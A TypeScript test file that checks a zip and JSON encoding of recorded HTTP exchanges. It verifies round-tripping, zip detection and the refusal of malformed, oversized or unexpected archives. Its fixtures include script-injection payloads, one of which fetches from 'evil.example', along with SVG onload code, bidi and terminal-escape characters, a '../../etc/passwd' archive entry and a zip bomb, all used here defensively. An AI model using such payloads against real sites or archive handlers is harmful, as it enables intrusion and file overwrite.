/** The zip form gives the very bundle back, and whatever else is a zip file is refused. */
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { base64Decode, base64Encode } from "#lib/kernel/base.ts";
import { utf8Encode } from "#lib/kernel/bytes.ts";
import { type Bundle, encodeBundle, parseBundle } from "./bundle.ts";
import { exampleBundle } from "./testing/example-bundle.ts";
import { startsAsZip, unzipBundle, zipBundle } from "./zip.ts";

const seed = 20261126;
const [first] = exampleBundle.exchanges;
if (first === undefined || !("request" in first)) throw new Error("the example is an exchange over HTTP");
const with_ = (change: object): Bundle => ({ ...exampleBundle, ...change });
const _withBytes = (bytes: Uint8Array) =>
  with_({ exchanges: [{ ...first, response: { ...first.response, body: base64Encode(bytes) } }] });

describe("the zip form", () => {
  test("gives back the very bundle, with bodies of any bytes, and is the same whenever it is made", () => {
    fc.assert(
      fc.property(
        fc.uint8Array({ maxLength: 400 }),
        fc.uint8Array({ minLength: 1, maxLength: 50 }),
        (answer, question) => {
          const exchange = {
            ...first,
            request: { ...first.request, body: base64Encode(question) },
            response: { ...first.response, body: base64Encode(answer) },
          };
          const bundle = with_({ exchanges: [exchange] });
          const zip = zipBundle(bundle);
          expect(startsAsZip(zip)).toBe(true);
          expect(zipBundle(bundle)).toEqual(zip);
          const read = unzipBundle(zip);
          expect(read.ok && encodeBundle(read.value)).toEqual(encodeBundle(bundle));
        },
      ),
      { seed, numRuns: 30 },
    );
  });

  test.each([
    ["HTML that runs", '<script>fetch("//evil.example")</script><img src=x onerror=alert(1)>'],
    ["SVG that runs", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><foreignObject/></svg>'],
    ["text that reads backwards", "abc\u202edcba\u2066\u200b\ufeff"],
    ["control characters and terminal codes", "\u0000\u0007\u001b[2J\u001b]0;x\u0007\r\n\u0085"],
    ["lone continuation bytes", Uint8Array.of(0x80, 0xff, 0xc0, 0xed, 0xa0, 0x80)],
    ["what looks like the archive itself", Uint8Array.of(0x50, 0x4b, 3, 4, 0x50, 0x4b, 1, 2, 0x50, 0x4b, 5, 6)],
  ])("a body of %s comes back byte for byte in both forms, and stands in the JSON as letters only", (_, content) => {
    const body = typeof content === "string" ? utf8Encode(content) : content;
    const bundle = with_({ exchanges: [{ ...first, response: { ...first.response, body: base64Encode(body) } }] });
    const bytes = encodeBundle(bundle);
    expect(bytes.every((byte) => byte >= 0x20 && byte < 0x7f && byte !== 0x3c)).toBe(true);
    for (const read of [parseBundle(bytes), unzipBundle(zipBundle(bundle))]) {
      const [exchange] = read.ok ? read.value.exchanges : [];
      expect(exchange && "response" in exchange && base64Decode(exchange.response.body)).toEqual(body);
    }
  });

  test("is told from other files by its first four bytes", () => {
    const start = [0x50, 0x4b, 3, 4];
    expect(startsAsZip(Uint8Array.from([...start, 9]))).toBe(true);
    for (const at of start.keys())
      expect(startsAsZip(Uint8Array.from(start.map((byte, place) => (place === at ? byte + 1 : byte))))).toBe(false);
    expect([startsAsZip(Uint8Array.from(start.slice(0, 3))), startsAsZip(new Uint8Array())]).toEqual([false, false]);
  });

  test("ten megabytes are refused by their length, and a half-sent bundle by its form", () => {
    const large = parseBundle(new Uint8Array(10 << 20));
    expect(large).toMatchObject({ ok: false, error: { code: "too-large" } });
    const half = encodeBundle(exampleBundle);
    for (const at of [1, half.length >> 1, half.length - 1])
      expect(parseBundle(half.subarray(0, at))).toMatchObject({ ok: false, error: { code: "malformed" } });
  });

  test("refuses bombs, cut files, names that do not belong and bodies that stand twice", async () => {
    const { zipSync } = await import("fflate");
    const json = encodeBundle(exampleBundle);
    const refused = (bytes: Uint8Array) => {
      const read = unzipBundle(bytes);
      return read.ok ? undefined : read.error.code;
    };
    expect(refused(zipSync({ "bundle.json": new Uint8Array(5 << 20) }))).toBe("too-large");
    expect(refused(zipBundle(exampleBundle).subarray(0, 300))).toBe("malformed");
    expect(refused(utf8Encode("PK\u0003\u0004 and so on"))).toBe("malformed");
    expect(refused(new Uint8Array())).toBe("malformed");
    expect(refused(zipSync({ "../../etc/passwd": json }))).toBe("schema");
    expect(refused(zipSync({ "bundle.json": json, "exchanges/0/response-body": json }))).toBe("schema");
    expect(refused(zipSync({ "bundle.json": json, "exchanges/3/response-body": json }))).toBe("schema");
  });
});
